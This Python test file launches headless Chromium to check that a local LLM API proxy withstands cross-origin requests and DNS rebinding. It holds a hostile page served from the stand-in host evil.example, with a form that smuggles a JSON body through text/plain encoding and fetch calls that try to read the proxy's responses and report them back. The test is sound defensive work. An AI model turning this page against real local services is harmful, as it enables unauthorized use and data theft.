"""
Pages of other origins and DNS rebinding, in a real browser.

Chromium resolves evil.example to this machine, like after DNS rebinding. The pages try fetch in all
modes, forms, images, scripts and event sources, and report the data that they could read to their
own server.
"""

from __future__ import annotations

import asyncio
import json
import shutil
from pathlib import Path

import pytest
from aiohttp import web

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = [
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed"),
    pytest.mark.xdist_group("processes"),
]

PAGE = """<!doctype html><img src="{proxy}/health"><script src="{proxy}/health"></script>
<iframe name=f></iframe>
<form id=form target=f method=post enctype="text/plain" action="{proxy}/v1/messages">
<input name='{{"model":"m","max_tokens":9,"messages":[{{"role":"user","content":"x"}}],"a":"'
 value='"}}'>
</form><script>
const messages = [{{role: "user", content: "x"}}];
const body = JSON.stringify({{model: "m", max_tokens: 9, messages}});
const tries = {{
  cors: {{method: "POST", body}},
  json: {{method: "POST", body, headers: {{"content-type": "application/json"}}}},
  nocors: {{method: "POST", body, mode: "no-cors"}},
  put: {{method: "PUT", body}},
}};
const got = {{}};
async function all() {{
  for (const [name, how] of Object.entries(tries))
    try {{ const a = await fetch("{proxy}/v1/messages", how); got[name] = await a.text() }}
    catch (error) {{ got[name] = "" }}
  for (const path of ["/health", "/test-connection", "/v1/models", "/"])
    for (const mode of ["cors", "no-cors"])
      try {{ const a = await fetch("{proxy}" + path, {{mode}}); got[mode + path] = await a.text() }}
      catch (error) {{ got[mode + path] = "" }}
  document.getElementById("form").submit();
  await new Promise(done => setTimeout(done, 300));
  await fetch("/report", {{method: "POST", body: JSON.stringify(got)}});
}}
all();
</script>"""


async def visit(url: str, folder: Path, reported: asyncio.Event) -> None:
    """Open *url* in a new browser until the page has reported."""
    assert CHROMIUM is not None
    browser = await asyncio.create_subprocess_exec(
        *(CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
        f"--user-data-dir={folder}",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        url,
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
        start_new_session=True,
    )
    try:
        await asyncio.wait_for(reported.wait(), 60)
    finally:
        browser.kill()
        await browser.wait()


@pytest.mark.parametrize("rebound", [False, True], ids=["another origin", "a rebound name"])
async def test_a_page_in_a_real_browser_reads_nothing(rebound, proxy, provider, tmp_path):
    got: dict[str, str] = {}
    reported = asyncio.Event()
    target = f"http://{'evil.example' if rebound else '127.0.0.1'}:{proxy.port}"

    async def page(_: web.Request) -> web.Response:
        return web.Response(text=PAGE.format(proxy=target), content_type="text/html")

    async def report(request: web.Request) -> web.Response:
        got.update(json.loads(await request.text()))
        reported.set()
        return web.Response()

    app = web.Application()
    app.add_routes([web.get("/", page), web.post("/report", report)])
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = runner.addresses[0][1]
    try:
        await visit(f"http://evil.example:{port}/", tmp_path / "profile", reported)
    finally:
        await runner.cleanup()
    assert len(got) == 12, "the page ran to its end"
    assert set(got.values()) == {""}, "and could read nothing"
    assert provider.calls == [], "and caused nothing"
    refused = [line["status"] for line in proxy.lines("request.finished")]
    assert len(refused) >= 10, "though it did reach the port"
    assert set(refused) <= {403, 421}
